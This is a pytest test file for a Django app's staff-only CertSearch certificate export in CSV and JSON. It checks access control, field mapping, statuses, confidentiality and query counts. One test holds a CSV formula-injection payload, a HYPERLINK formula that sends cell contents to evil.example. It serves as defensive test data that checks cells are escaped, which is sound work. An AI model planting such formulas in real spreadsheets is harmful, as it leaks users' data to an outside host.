"""The IAF CertSearch export: CertSearch's field names, statuses and dates, for staff only."""

import csv
import datetime
import io
import json

import pytest
from django.apps import apps
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from certificates.certsearch import CSV_HEADER, certsearch_records
from certificates.models import Certificate
from certificates.services import certificate_suspend, certificate_withdraw
from tests.conftest import CAST_NAMES, ROOT
from tests.factories import copy_certificate

CSV_URL = "/certificates/export.csv"
JSON_URL = "/certificates/export.json"


def _rows(response):
    text = response.content.decode("utf-8")
    # Excel needs the byte-order mark to read UTF-8; a CSV reader sees it as part of the first cell.
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def _ymd(day: datetime.date) -> str:
    return day.strftime("%Y%m%d")


@pytest.mark.parametrize("url", [CSV_URL, JSON_URL])
def test_it_lets_only_staff_export(url, cast, certificate, login):
    got = {}
    for name in CAST_NAMES:
        response = login(cast.user(name)).get(url)
        got[name] = response.status_code
        if name == "anonymous":
            assert response["Location"].startswith("/login/")
    assert got == {"anonymous": 302, "staff": 200, "lead": 403, "auditor": 403, "client": 403, "other": 403}


def test_it_gives_staff_the_certificate_permissions(cast):
    assert cast.staff.has_perm("certificates.view_certificate")
    assert cast.staff.has_perm("certificates.add_decision")
    assert not cast.lead.has_perm("certificates.view_certificate")
    assert not cast.client.has_perm("certificates.view_certificate")


@pytest.mark.parametrize("url", [CSV_URL, JSON_URL])
def test_it_refuses_a_post(url, cast, login):
    assert login(cast.staff).post(url).status_code == 405


def test_it_exports_csv_one_row_per_site(cast, certificate, login):
    response = login(cast.staff).get(CSV_URL)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = _ymd(timezone.localdate())
    assert response["Content-Disposition"] == f'attachment; filename="certsearch-{today}.csv"'
    text = response.content.decode("utf-8")[1:]
    assert next(csv.reader(io.StringIO(text))) == CSV_HEADER
    rows = _rows(response)
    assert [row["Certification Site City"] for row in rows] == ["Stockholm", "Göteborg", "Malmö"]
    first = rows[0]
    assert first["Certification Identity Number"] == str(certificate.identity)
    assert first["Certificate Number"] == certificate.number
    assert first["Certification Status"] == "Active"
    assert first["Accreditation Status"] == "Accredited"
    assert first["Certification Standards"] == cast.standard.code
    assert first["Certification Scope"] == "Inbound customer service by telephone, e-mail and chat."
    assert first["Certification Original Issue Date"] == _ymd(certificate.original_issue_date)
    assert first["Certification Issue Date"] == _ymd(certificate.issue_date)
    assert first["Certification Expiry Date"] == _ymd(certificate.expiry_date)
    assert len(first["Certification Expiry Date"]) == 8
    assert first["Certified Entity Name"] == "Nordkontakt AB"
    assert first["Certified Entity Unique ID"] == cast.org_a.org_number
    assert first["Certified Entity Registered Address"] == certificate.entity_address
    assert first["Certification Site Name"] == "Stockholm"
    assert first["Certification Site Country"] == "Sweden"
    site = certificate.sites.get(name="Stockholm")
    assert first["Certification Site Address"] == site.address
    assert first["Certification Site Scope"] == site.scope
    # The certificate's columns repeat on every site's row.
    assert {row["Certificate Number"] for row in rows} == {certificate.number}


def test_it_exports_json_with_nested_sites(cast, certificate, login, settings):
    response = login(cast.staff).get(JSON_URL)
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"].endswith('.json"')
    data = json.loads(response.content)
    assert data["certification_body"] == settings.CERTIFICATION_BODY_NAME
    (record,) = data["certifications"]
    assert record == {
        "certification_identity_number": str(certificate.identity),
        "certificate_number": certificate.number,
        "certification_status": "Active",
        "accreditation_status": "Accredited",
        "certification_standards": [cast.standard.code],
        "certification_scope": "Inbound customer service by telephone, e-mail and chat.",
        "certification_original_issue_date": _ymd(certificate.original_issue_date),
        "certification_issue_date": _ymd(certificate.issue_date),
        "certification_expiry_date": _ymd(certificate.expiry_date),
        "certified_entity_name": "Nordkontakt AB",
        "certified_entity_unique_id": cast.org_a.org_number,
        "certified_entity_address": certificate.entity_address,
        "certification_sites": [
            {
                "name": site.name,
                "address": site.address,
                "city": site.city,
                "country": "Sweden",
                "country_code": "SE",
                "scope": site.scope,
            }
            for site in certificate.sites.order_by("id")
        ],
    }
    # Written as UTF-8, not \u escapes, so staff can read it.
    assert "Göteborg" in response.content.decode("utf-8")


def test_it_uses_certsearch_status_words(cast, certificate, login):
    suspended = copy_certificate(certificate, "CERT-2001-0001")
    certificate_suspend(certificate=suspended, user=cast.staff, reason="No answer")
    withdrawn = copy_certificate(certificate, "CERT-2001-0002")
    certificate_withdraw(certificate=withdrawn, user=cast.staff, reason="Ended")
    today = timezone.localdate()
    long_ago = today - datetime.timedelta(days=1200)
    # Past its expiry but not yet marked by the nightly run: CertSearch must still read Expired.
    copy_certificate(
        certificate,
        "CERT-2001-0003",
        original_issue_date=long_ago,
        issue_date=long_ago,
        expiry_date=today - datetime.timedelta(days=1),
    )
    copy_certificate(certificate, "CERT-2001-0004", status="expired")
    statuses = {
        record["certificate_number"]: record["certification_status"]
        for record in json.loads(login(cast.staff).get(JSON_URL).content)["certifications"]
    }
    assert statuses == {
        certificate.number: "Active",
        "CERT-2001-0001": "Suspended",
        "CERT-2001-0002": "Withdrawn",
        "CERT-2001-0003": "Expired",
        "CERT-2001-0004": "Expired",
    }


def test_it_leaves_confidential_certificates_out(cast, certificate, login):
    copy_certificate(certificate, "CERT-2001-0009", confidential=True)
    client = login(cast.staff)
    assert {row["Certificate Number"] for row in _rows(client.get(CSV_URL))} == {certificate.number}
    numbers = [r["certificate_number"] for r in json.loads(client.get(JSON_URL).content)["certifications"]]
    assert numbers == [certificate.number]


def test_it_writes_one_row_for_a_certificate_without_sites(cast, certificate, login):
    copy_certificate(certificate, "CERT-2001-0005", with_sites=False)
    rows = [
        row for row in _rows(login(cast.staff).get(CSV_URL)) if row["Certificate Number"] == "CERT-2001-0005"
    ]
    assert len(rows) == 1
    assert rows[0]["Certification Site Name"] == rows[0]["Certification Site Country"] == ""
    assert rows[0]["Certification Status"] == "Active"


def test_it_joins_several_standards_in_one_cell(cast, certificate, login):
    from tests.factories import StandardFactory

    certificate.standards.add(StandardFactory(code="ISO 9001:2015", title="Quality management"))
    row = _rows(login(cast.staff).get(CSV_URL))[0]
    # In code order, so the same certificate always reads the same.
    assert row["Certification Standards"] == "ISO 18295-1:2017; ISO 9001:2015"


def test_it_gives_an_organisation_without_a_number_a_stable_id(cast, certificate, login):
    type(cast.org_a).objects.filter(pk=cast.org_a.pk).update(org_number="")
    row = _rows(login(cast.staff).get(CSV_URL))[0]
    assert row["Certified Entity Unique ID"] == f"CERTDESK-ORG-{cast.org_a.pk}"


def test_it_reads_the_export_in_three_queries(certificate, django_assert_num_queries):
    for n in range(5):
        copy_certificate(certificate, f"CERT-2004-{n:04d}")
    with django_assert_num_queries(3):
        records = certsearch_records(today=timezone.localdate())
    assert len(records) == 6


@pytest.mark.parametrize("url", [CSV_URL, JSON_URL])
def test_it_exports_in_a_constant_number_of_queries(url, cast, certificate, login):
    client = login(cast.staff)
    client.get(url)  # warm the session and permission caches
    with CaptureQueriesContext(connection) as few:
        assert client.get(url).status_code == 200
    for n in range(10):
        copy_certificate(certificate, f"CERT-2005-{n:04d}")
    with CaptureQueriesContext(connection) as many:
        assert client.get(url).status_code == 200
    assert len(many.captured_queries) == len(few.captured_queries)


FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_it_writes_no_cell_a_spreadsheet_would_run_as_a_formula(start, cast, certificate, login):
    # What a client or staff typed reaches the CSV: scope, entity name and address, and each site's.
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    Certificate.objects.filter(pk=certificate.pk).update(
        scope=formula, entity_name=formula, entity_address=formula
    )
    certificate.sites.update(name=formula, address=formula, city=formula, scope=formula)

    rows = _rows(login(cast.staff).get(CSV_URL))

    columns = [
        "Certification Scope",
        "Certified Entity Name",
        "Certified Entity Registered Address",
        "Certification Site Name",
        "Certification Site Address",
        "Certification Site City",
        "Certification Site Scope",
    ]
    cells = [row[column] for row in rows for column in columns]
    assert len(cells) == 3 * len(columns)
    # Shown as the text that was typed, after an apostrophe that keeps it from running.
    assert set(cells) == {"'" + formula}


def test_it_leaves_ordinary_cells_as_they_are(cast, certificate, login):
    Certificate.objects.filter(pk=certificate.pk).update(scope="Inbound calls - and e-mail = 100 %")
    row = _rows(login(cast.staff).get(CSV_URL))[0]
    assert row["Certification Scope"] == "Inbound calls - and e-mail = 100 %"


def test_every_csv_is_written_through_the_spreadsheet_writer():
    # One home for the rule: an export that writes CSV with the csv module itself would skip it.
    ours = ["core", "config", *(app.name for app in apps.get_app_configs() if (ROOT / app.name).is_dir())]
    writers = [
        str(path.relative_to(ROOT))
        for app in ours
        for path in (ROOT / app).rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    ]
    assert writers == ["core/spreadsheets.py"]
